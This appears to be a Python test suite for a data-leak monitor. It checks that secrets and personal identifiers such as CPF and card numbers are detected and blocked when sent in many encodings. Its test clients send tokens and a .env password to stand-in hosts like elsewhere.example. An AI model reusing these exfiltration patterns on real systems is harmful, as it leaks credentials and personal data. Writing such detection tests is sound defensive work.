# What leaves: a recording server stands for a host elsewhere; secrets and personal data are found in every encoding,
# told with the line that sent them, and stopped before a byte of them is gone where a policy says so.

import base64
import binascii
import gzip
import json
import os
import random
import re
import socket
import subprocess
import sys
import urllib.parse
import uuid
import zlib

from .harness import ProbeTest, load
from .test_guard import compiled, rule

KNOWN = 'hk3"9/dk-29 Aksjq2!'.replace(' ', '')
# Put together here, so that no file holds a key's form.
KEY = 'gsk' + '_' + ''.join(random.Random(7).choices('ABCDEFGHJKLMNPQRSTUVWXYZabcdefghjkmnpqrstuvwxyz23456789', k=52))

SERVER = """
import socket, sys, threading
server = socket.socket()
server.bind(('127.0.0.1', 0))
server.listen(64)
print(server.getsockname()[1], flush=True)
record = open(sys.argv[1], 'ab', 0)
answering = []

def answer(connection):
    seen = b''
    connection.settimeout(5)
    try:
        while True:
            part = connection.recv(1 << 16)
            if not part:
                break
            if part == b'settled?':
                for thread in answering:
                    if thread is not threading.current_thread():
                        thread.join()
                connection.sendall(b'yes')
                break
            record.write(part)
            seen += part
            head, end, body = seen.partition(b'\\r\\n\\r\\n')
            if not end:
                continue
            length = [line[15:] for line in head.lower().split(b'\\r\\n') if line[:15] == b'content-length:']
            done = len(body) >= int(length[0]) if length else body.endswith(b'0\\r\\n\\r\\n') or head[:3] == b'GET'
            if done:
                connection.sendall(b'HTTP/1.1 200 OK\\r\\nContent-Length: 2\\r\\nConnection: close\\r\\n\\r\\nok')
                break
    except OSError:
        pass
    connection.close()

while True:
    thread = threading.Thread(target=answer, args=(server.accept()[0],), daemon=True)
    answering = [one for one in answering if one.is_alive()] + [thread]
    thread.start()
"""

# Each client sends `body`, which the test gives as hex.
CLIENTS = {
    'urllib': """
        import urllib.request
        urllib.request.urlopen('http://%s/in' % place, data=body).read()
        """,
    'http.client': """
        import http.client
        connection = http.client.HTTPConnection(place)
        connection.request('POST', '/in', body)
        connection.getresponse().read()
        """,
    'chunked': """
        import http.client
        connection = http.client.HTTPConnection(place)
        third = len(body) // 3 + 1
        parts = [body[at:at + third] for at in range(0, len(body), third)]
        connection.request('POST', '/in', iter(parts), encode_chunked=True, headers={'Transfer-Encoding': 'chunked'})
        connection.getresponse().read()
        """,
    'sendall': """
        import socket
        host, port = place.split(':')
        connection = socket.create_connection((host, int(port)))
        connection.sendall(body)
        connection.close()
        """,
    'send': """
        import socket
        host, port = place.split(':')
        connection = socket.create_connection((host, int(port)))
        view = memoryview(body)
        while view:
            view = view[connection.send(view):]
        connection.close()
        """,
    'sendmsg': """
        import socket
        host, port = place.split(':')
        connection = socket.create_connection((host, int(port)))
        connection.sendmsg([body[:9], body[9:]])
        connection.close()
        """,
    'asyncio': """
        import asyncio
        async def main():
            host, port = place.split(':')
            reader, writer = await asyncio.open_connection(host, int(port))
            writer.write(body)
            await writer.drain()
            writer.close()
            await asyncio.sleep(0.05)
        asyncio.run(main())
        """,
}

PROGRAM = """
import os, sys
place = sys.argv[1]
for number, line in enumerate(open(sys.argv[2])):
    body = bytes.fromhex(line)
    if sys.argv[3]:
        os.environ['SENTINEL_STANDS_FOR'] = place + '=' + sys.argv[3].replace('#', str(number))
    try:
        %s
    except OSError as fault:
        print('refused', number, fault)
"""


def cpf(number):
    digits = [int(one) for one in '%09d' % number]
    for weights in (range(10, 1, -1), range(11, 1, -1)):
        rest = sum(digit * weight for digit, weight in zip(digits, weights)) % 11
        digits.append(0 if rest < 2 else 11 - rest)
    text = ''.join(map(str, digits))
    return '%s.%s.%s-%s' % (text[:3], text[3:6], text[6:9], text[9:])


def card(number):
    stem = '4%014d' % number
    total = sum(sum(divmod(int(one) * (2 - at % 2), 10)) for at, one in enumerate(stem))
    return stem + str(-total % 10)


PAYLOADS = {
    'known': KNOWN,
    'key': KEY,
    'cpf': '\n'.join(cpf(123456789 + 7919 * number) for number in range(500)),
    'card': '\n'.join(card(123456 + 7919 * number) for number in range(40)),
}
ENCODINGS = {
    'plain': lambda text: b'say ' + text.encode() + b' done',
    'base64': lambda text: base64.b64encode(b'it is ' + text.encode() + b' there'),
    'mime': lambda text: base64.encodebytes(b'it is ' + text.encode() + b' there'),
    'url': lambda text: b'a=' + urllib.parse.quote(text, safe='').encode() + b'&b=1',
    'json': lambda text: json.dumps({'text': text}).encode(),
    'hex': lambda text: binascii.hexlify(text.encode()),
    'gzip': lambda text: gzip.compress(b'before ' + text.encode()),
    'deflate': lambda text: zlib.compress(b'before ' + text.encode()),
}


class ContentTest(ProbeTest):
    def setUp(self):
        super().setUp()
        self.record = os.path.join(self.directory, 'received')
        self.server = subprocess.Popen(
            [sys.executable, '-I', '-c', SERVER, self.record], stdout=subprocess.PIPE, universal_newlines=True
        )
        self.addCleanup(self.server.stdout.close)
        self.addCleanup(self.server.wait)
        self.addCleanup(self.server.kill)
        self.place = '127.0.0.1:' + self.server.stdout.readline().strip()

    def force(self, mode):
        expression = ['|', ['!=', ['f', 'data.strays'], ['c', []]], ['!=', ['f', 'data.classes'], ['c', []]]]
        os.makedirs(os.path.join(self.directory, 'policy'), exist_ok=True)
        with open(os.path.join(self.directory, 'policy', 'compiled'), 'wb') as file:
            file.write(compiled({'content.sent': [[0, expression]]}, [rule(0, mode)]))

    def received(self):
        """What came since the last time, when all who sent have been heard to their end."""
        host, port = self.place.split(':')
        with socket.create_connection((host, int(port))) as connection:
            connection.sendall(b'settled?')
            connection.recv(3)
        try:
            with open(self.record, 'rb') as file:
                content = file.read()
        except FileNotFoundError:
            return b''
        os.truncate(self.record, 0)
        return content

    def send(self, client, bodies, host='cell-#.example'):
        """The Run of a program that sends each body, number # of them to cell-#.example."""
        for name in os.listdir(self.inbox):
            os.unlink(os.path.join(self.inbox, name))
        self.received()
        with open(os.path.join(self.directory, 'bodies'), 'w') as file:
            file.write('\n'.join(body.hex() for body in bodies))
        text = PROGRAM % CLIENTS[client].strip()
        return self.program(
            text, self.place, os.path.join(self.directory, 'bodies'), host, env={'ACME_TOKEN': KNOWN}
        )

    def found(self, result):
        """`{host: types of secrets and classes}`, and the places that sent them."""
        types, places = {}, set()
        for line in self.lines(result, 'content.sent'):
            here = {secret['type'] for secret in line['secrets']} | set(line['classes'])
            types.setdefault(line['host'], set()).update(here)
            if here:
                places.add(line.get('at'))
        return types, places


EXPECTED = {'known': 'environment', 'key': 'groq-key', 'cpf': 'cpf', 'card': 'card'}
CELLS = [(encoding, payload) for encoding in ENCODINGS for payload in PAYLOADS]
BODIES = [ENCODINGS[encoding](PAYLOADS[payload]) for encoding, payload in CELLS]
WHAT = {'cell-%d.example' % number: {EXPECTED[payload]} for number, (_, payload) in enumerate(CELLS)}
HEAD = re.compile(rb'POST /in HTTP/1.1\r\n(?:[^\r\n]+\r\n)+\r\n')


class Leaks(ContentTest):
    def test_everything_is_found_with_its_line_and_arrives_where_nothing_denies(self):
        for client in CLIENTS:
            with self.subTest(client=client):
                result = self.send(client, BODIES)
                types, places = self.found(result)
                self.assertEqual(types, WHAT)
                self.assertTrue(all(place and '/program.py:' in place for place in places), places)
                self.assertEqual((result.out, result.err), ('', ''))
                self.assert_whole(result)
                told = json.dumps([line for line in result.runs[0].lines if line['type'] != 'run.started'])
                for secret in PAYLOADS.values():
                    self.assertNotIn(secret[:14], told)

    def test_a_denied_payload_does_not_arrive(self):
        self.force('deny')
        for client in CLIENTS:
            with self.subTest(client=client):
                result = self.send(client, BODIES)
                came = HEAD.sub(b'', self.received())
                if client == 'chunked':  # what a stream sent before its secret was whole has left
                    self.assertLess(len(came), sum(map(len, BODIES)) * 0.7)
                else:
                    self.assertEqual(came, b'')
                verdicts = self.told(result, 'content.sent', 'host', 'verdict')
                self.assertEqual({host for host, verdict in verdicts if verdict == 'deny'}, set(WHAT))
                self.assertEqual(len(self.lines(result, 'policy.applied')), len(WHAT))

    def test_a_warning_is_said_once_and_the_payload_arrives(self):
        self.force('warn')
        for client in ('urllib', 'sendall'):
            result = self.send(client, BODIES[:1])
            self.assertEqual(result.err.count('Sentinel warns: '), 1)
            self.assertIn(BODIES[0], self.received())


class Belonging(ContentTest):
    def test_a_provider_s_key_at_the_provider_is_use_and_elsewhere_it_is_a_stray(self):
        self.force('deny')
        for host, belongs in (('api.groq.com', True), ('api.groq.com.example', False)):
            result = self.send('urllib', [KEY.encode()], host)
            secrets = [one for line in self.lines(result, 'content.sent') for one in line['secrets']]
            self.assertEqual({(one['type'], one['last4'], one['belongs']) for one in secrets}, {('groq-key', KEY[-4:], belongs)})
            self.assertEqual('refused' in result.out, not belongs, result.out)

    def test_what_an_env_file_said_is_known_and_its_own_service_may_have_it(self):
        secret = 'q7-fileborne-Xk21'
        path = self.file('.env', "# settings\nexport PAYROLL_PASSWORD='%s'\nDEBUG=true\n" % secret)
        CLIENTS['file'] = 'open(%r).read()\n        ' % path + CLIENTS['urllib'].strip()
        self.addCleanup(CLIENTS.pop, 'file')
        for host, belongs in (('elsewhere.example', False), ('payroll.example', True)):
            result = self.send('file', [b'x=' + secret.encode()], host)
            secrets = [one for line in self.lines(result, 'content.sent') for one in line['secrets']]
            self.assertEqual([(one['type'], one['belongs']) for one in secrets], [('file', belongs)])

    def test_who_catches_the_refusal_still_cannot_send_on_that_connection(self):
        self.force('deny')
        CLIENTS['stubborn'] = """
        import socket
        host, port = place.split(':')
        connection = socket.create_connection((host, int(port)))
        for _ in range(3):
            try:
                connection.sendall(body)
                print('went')
            except PermissionError:
                pass
            body = b'something else'
        connection.close()
        """
        self.addCleanup(CLIENTS.pop, 'stubborn')
        result = self.send('stubborn', [KNOWN.encode()])
        self.assertEqual((result.out, self.received()), ('', b''))

    def test_this_machine_and_private_addresses_are_nobody_s_business(self):
        result = self.send('urllib', [KNOWN.encode()], '')
        self.assertEqual(self.lines(result, 'content.sent'), [])


def harmless(count):
    """Payloads as programs send them all day, none of which holds a secret or a person."""
    dice = random.Random(11)
    words = 'lorem ipsum dolor sit amet consectetur adipiscing elit sed do eiusmod tempor incididunt'.split()
    makers = [
        lambda: '\n'.join(str(uuid.UUID(int=dice.getrandbits(128), version=4)) for _ in range(40)),
        lambda: '\n'.join('%064x' % dice.getrandbits(256) for _ in range(20)),
        lambda: '\n'.join('%040x' % dice.getrandbits(160) for _ in range(20)),
        lambda: json.dumps({'orders': [dice.randrange(10**10, 10**11) for _ in range(60)]}),
        lambda: json.dumps({'orders': [str(dice.randrange(10**15, 10**16)) for _ in range(60)]}),
        lambda: 'order;amount\n' + '\n'.join('%014d;%d' % (dice.randrange(10**14), dice.randrange(99)) for _ in range(50)),
        lambda: base64.b64encode(b'\x89PNG\r\n\x1a\n' + bytes(dice.getrandbits(8) for _ in range(1500))).decode(),
        lambda: base64.b64encode(bytes(dice.getrandbits(8) for _ in range(900))).decode(),
        lambda: ' '.join(dice.choices(words, k=200)),
        lambda: json.dumps({'at': '2026-01-%02dT10:%02d:00Z' % (dice.randrange(1, 29), dice.randrange(60)), 'id': dice.randrange(10**9)}),
        lambda: 'def run(token, key=None):\n    password = os.environ["PASSWORD"]\n    return sk - key_%d\n' % dice.randrange(999),
        lambda: '{"user": "a.person@example.org", "phone": "+49 30 1234567", "total": %d}' % dice.randrange(10**6),
        lambda: '\n'.join('+%d %d' % (dice.randrange(10**9), dice.randrange(10**13, 10**14)) for _ in range(30)),
        lambda: '<svg viewBox="0 0 24 24"><path d="M%s"/></svg>' % ' '.join(str(dice.random() * 24) for _ in range(80)),
        lambda: 'Authorization: Bearer test\nX-Request-Id: %032x\n' % dice.getrandbits(128),
        lambda: '\n'.join('%d.%d.%d.%d' % tuple(dice.randrange(256) for _ in range(4)) for _ in range(40)),
    ]
    return [makers[number % len(makers)]().encode() for number in range(count)]


def cnpj(number):
    digits = [int(one) for one in '%08d0001' % number]
    for weights in ((5, 4, 3, 2, 9, 8, 7, 6, 5, 4, 3, 2), (6, 5, 4, 3, 2, 9, 8, 7, 6, 5, 4, 3, 2)):
        rest = sum(digit * weight for digit, weight in zip(digits, weights)) % 11
        digits.append(0 if rest < 2 else 11 - rest)
    return ''.join(map(str, digits))


class Counted(ContentTest):
    def test_numbers_are_counted_once_and_through_the_borders_of_pieces(self):
        CLIENTS['small'] = """
        import socket
        host, port = place.split(':')
        connection = socket.create_connection((host, int(port)))
        for at in range(0, len(body), 7):
            connection.sendall(body[at:at + 7])
        connection.close()
        """
        self.addCleanup(CLIENTS.pop, 'small')
        companies = ','.join(cnpj(11222333 + 7919 * number) for number in range(30))
        people = '\n'.join(cpf(123456789 + 7919 * number) for number in range(30))
        cards = '\n'.join(card(123456 + 7919 * number) for number in range(30))
        bodies = [companies.encode(), people.encode(), cards.encode(), cards.encode().hex().encode()]
        for client in ('sendall', 'small'):
            result = self.send(client, bodies + [b'GET /?all=' + people.replace('\n', ',').encode() + b' HTTP/1.1\r\n\r\n'])
            found = {}
            for line in self.lines(result, 'content.sent'):
                for name, count in line['classes'].items():
                    found.setdefault(line['host'][5:6], {})[name] = count
            expected = [('0', 'cnpj'), ('1', 'cpf'), ('2', 'card'), ('3', 'card'), ('4', 'cpf')]
            self.assertEqual({(host, name) for host, names in found.items() for name in names}, set(expected))
            for host, name in expected:
                self.assertGreaterEqual(found[host][name], 28 if host != '3' else 20, (client, host))
                self.assertLessEqual(found[host][name], 30, (client, host))


class Harmless(ContentTest):
    def test_nothing_is_found_in_two_thousand_harmless_payloads(self):
        result = self.send('sendall', harmless(2048), 'elsewhere.example')
        self.assertEqual(result.out + result.err, '')
        lines = self.lines(result, 'content.sent')
        self.assertEqual([(line['secrets'], line['classes']) for line in lines], [([], {})])
        self.assertIn(2048, self.told(result, 'event.repeated', 'count'))


class Reading(ProbeTest):
    def test_the_frames_of_a_chunked_body_are_taken_off_however_it_was_cut(self):
        class Here:
            def quietly(self, act, *args):
                return act(*args)

        views = load('observers.content_views').create(Here())
        cuts = (b'8\r\ndefghijk\r\n', b'8\r\ndefg\r\n4\r\nhijk\r\n', b'defghijk', b'defghijk\r\n')
        self.assertEqual({views.unframed(cut) for cut in cuts}, {b'defghijk'})
        self.assertEqual({views.unframed(cut) for cut in (b'1f', b'1f\r\n', b'\r\n')}, {b''})
